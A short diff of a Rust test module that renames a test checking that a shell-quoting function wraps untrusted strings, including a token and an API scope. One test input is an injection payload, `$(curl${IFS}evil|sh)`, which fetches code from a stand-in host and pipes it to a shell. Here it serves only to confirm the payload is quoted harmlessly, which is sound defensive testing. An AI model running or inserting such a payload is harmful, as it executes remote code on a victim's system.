@@ -29,7 +29,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn what_somebody_else_wrote_stays_one_word() {
+    fn text_of_others_stays_one_word() {
         assert_eq!(word("api://x/Tasks.Read"), "api://x/Tasks.Read");
         assert_eq!(word("EwB0A8l6/a+b=="), "EwB0A8l6/a+b==");
         assert_eq!(word("$(curl${IFS}evil|sh)"), "'$(curl${IFS}evil|sh)'");
